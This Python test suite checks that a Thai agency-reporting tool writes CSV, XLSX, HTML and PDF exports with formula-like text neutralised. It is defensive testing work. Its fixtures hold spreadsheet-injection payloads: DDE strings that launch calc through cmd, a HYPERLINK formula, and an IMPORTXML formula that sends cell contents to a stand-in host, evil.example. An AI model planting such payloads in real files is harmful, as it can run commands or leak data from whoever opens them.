"""Exports are safe to open: agency names, districts, URLs and explanations that a spreadsheet
would evaluate (=, +, -, @, tab, carriage return first) come out of every report and export format
as text, and still readable; numbers the program computes stay numbers."""

from __future__ import annotations

import csv
import dataclasses
import html
import io
from pathlib import Path

import pytest
from openpyxl import load_workbook

from sheets_sync.config.settings import Agency, load_config
from sheets_sync.core.cellsafe import FORMULA_STARTS
from sheets_sync.core.models import RowKey, Status, Verdict
from sheets_sync.pipeline.sync import init
from sheets_sync.report import governor as R
from sheets_sync.report import pdf as P
from sheets_sync.report import summary as S
from sheets_sync.sheet.xlsx import XlsxBackend
from sheets_sync.state.history import History
from sheets_sync.state.store import State
from tests.support import pdf_layout as L
from tests.support.history_fixture import CATALOG, bkk

ROOT = Path(__file__).resolve().parents[2]
HOSTILE = (
    '=HYPERLINK("http://evil.example/x","คลิก")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=2+2",
    '=IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")',
)
AGENCIES = tuple(Agency(f"evil-{i}", f"{h}", HOSTILE[(i + 3) % len(HOSTILE)], "อบต.",
                        score_2565=80.0 if i < 2 else None, grade_2565="B" if i < 2 else "")
                 for i, h in enumerate(HOSTILE))
URLS = {a.code: HOSTILE[(i + 1) % len(HOSTILE)] for i, a in enumerate(AGENCIES)}
AFTER_ROUND_3 = bkk(2023, 4, 10, 9, 0)


@pytest.fixture
def config(tmp_path):
    base = load_config(ROOT / "config" / "settings.yaml").with_settings(
        state_path=str(tmp_path / "state.sqlite"),
        expected_agencies=len(AGENCIES), target_agencies=3)
    return dataclasses.replace(base, catalog=CATALOG, agencies=AGENCIES)


def verdicts(status: Status) -> list[Verdict]:
    return [Verdict(RowKey(a.code, i.code), URLS[a.code] if i.code in ("O1", "O3") else "",
                    status if i.code in ("O1", "O3") else Status.EMPTY, (), None, URLS[a.code], None, None,
                    note_th=URLS[a.code], detail=a.name)
            for a in AGENCIES for i in CATALOG.items]


@pytest.fixture
def hist(config):
    with State(config.settings.state_path) as state:
        h = History(state)
        h.record(verdicts(Status.BROKEN), bkk(2023, 1, 20, 9, 0), AGENCIES)
        h.record([v for v in verdicts(Status.OK) if v.key.agency == "evil-0"], bkk(2023, 2, 2, 9, 0), AGENCIES)
        h.record_report(bkk(2023, 2, 1, 9, 0))
        yield h


def evaluated_csv(path: Path) -> tuple[list[str], list[str]]:
    """(cells a spreadsheet would evaluate, every cell) of a CSV as Excel reads it."""
    rows = list(csv.reader(io.StringIO(path.read_bytes().decode("utf-8-sig"), newline="")))
    cells = [c for r in rows for c in r]
    return [c for c in cells if c.startswith(FORMULA_STARTS)], cells


def evaluated_xlsx(path: Path) -> tuple[list[str], list[object]]:
    """(cells that are formulas or formula-looking text without the quote prefix, every value)."""
    wb = load_workbook(path)
    bad, values = [], []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                if c.value is None:
                    continue
                values.append(c.value)
                if c.data_type == "f" or (isinstance(c.value, str) and c.value.startswith(FORMULA_STARTS)
                                          and not c.quotePrefix):
                    bad.append(f"{ws.title}!{c.coordinate}: {c.value!r}")
    return bad, values


def readable_in(texts, hostile=HOSTILE, prefix="") -> list[str]:
    """The hostile texts not found whole (after `prefix`) in `texts`: none may be lost or cut. Line
    ends are compared as XML and text files keep them (a carriage return reads back as a newline)."""
    def nl(text: str) -> str:
        return text.replace("\r\n", "\n").replace("\r", "\n")

    joined = nl("\n".join(str(t) for t in texts))
    return [h for h in hostile if nl(prefix + h) not in joined]


@pytest.mark.parametrize("followup", [False, True])
def test_csv_reports_write_sheet_text_as_text(config, hist, tmp_path, followup):
    out = R.make_report(config, hist, "csv", tmp_path / "r.csv", AFTER_ROUND_3, followup=followup)
    bad, cells = evaluated_csv(out)
    assert bad == []
    # names (and, in the follow-up list, districts and URLs) with the apostrophe OWASP advises
    assert readable_in(cells, tuple(a.name for a in AGENCIES), prefix="'") == []
    if followup:
        assert readable_in(cells, tuple(URLS.values()), prefix="'") == []
        assert readable_in(cells, tuple(a.district for a in AGENCIES), prefix="'") == []
    else:
        # numbers the program computed are plain numbers, no apostrophe
        province = next(r for r in csv.reader(io.StringIO(out.read_text(encoding="utf-8-sig")))
                        if r and r[0] == "ข้อที่ส่งแล้ว")
        assert province[1:4] == ["14", "35", "40.0"]


@pytest.mark.parametrize("followup", [False, True])
def test_xlsx_reports_write_sheet_text_as_quoted_text(config, hist, tmp_path, followup):
    out = R.make_report(config, hist, "xlsx", tmp_path / "r.xlsx", AFTER_ROUND_3, followup=followup)
    bad, values = evaluated_xlsx(out)
    assert bad == []
    assert readable_in(values, tuple(a.name for a in AGENCIES)) == []
    assert any(isinstance(v, int) and not isinstance(v, bool) for v in values)  # counts stay numbers


def test_the_workbook_the_worker_writes_has_no_formula_of_an_agency(config, hist, tmp_path):
    book = tmp_path / "book.xlsx"
    backend = XlsxBackend(book, config.settings.tz)
    init(config, backend)
    # URLs as an import writes them, then verdicts whose final URL and detail are hostile
    grid_urls = {RowKey(a.code, "O1"): ("", URLS[a.code]) for a in AGENCIES}
    assert backend.write_urls(grid_urls).written == len(AGENCIES)
    backend.write_results([v for v in verdicts(Status.BROKEN) if v.key.item == "O1"])
    backend.write_summary(R.report_summary(config, hist, AFTER_ROUND_3))
    assert backend.write_snapshot("สรุปรอบ 1", lambda: S.snapshot_summary(
        hist, CATALOG.round(1), CATALOG, AGENCIES, S.Options.of(config.settings)))
    bad, values = evaluated_xlsx(book)
    assert bad == []
    everything = tuple(a.name for a in AGENCIES) + tuple(a.district for a in AGENCIES) + tuple(URLS.values())
    assert readable_in(values, everything) == []


def test_html_report_shows_hostile_text_escaped(config, hist, tmp_path):
    for followup in (False, True):
        doc = R.make_report(config, hist, "html", tmp_path / f"r{followup}.html", AFTER_ROUND_3,
                            followup=followup).read_bytes().decode("utf-8")
        assert "<script" not in doc and "http://evil.example" not in doc.replace(
            html.escape("http://evil.example"), "")  # only ever as escaped text
        assert readable_in([doc], tuple(html.escape(a.name) for a in AGENCIES)) == []


@pytest.mark.skipif(P.find_chromium() is None or not L.have_poppler(),
                    reason="needs chromium and poppler-utils (apt-get install chromium fonts-thai-tlwg poppler-utils)")
def test_pdf_report_prints_hostile_text_as_text(config, hist, tmp_path):
    pdf = R.make_report(config, hist, "pdf", tmp_path / "r.pdf", AFTER_ROUND_3)
    text = L.squash("".join(L.page_text(pdf, p) for p in range(1, L.page_count(pdf) + 1)))
    assert [a.name for a in AGENCIES if L.squash(a.name) not in text] == []
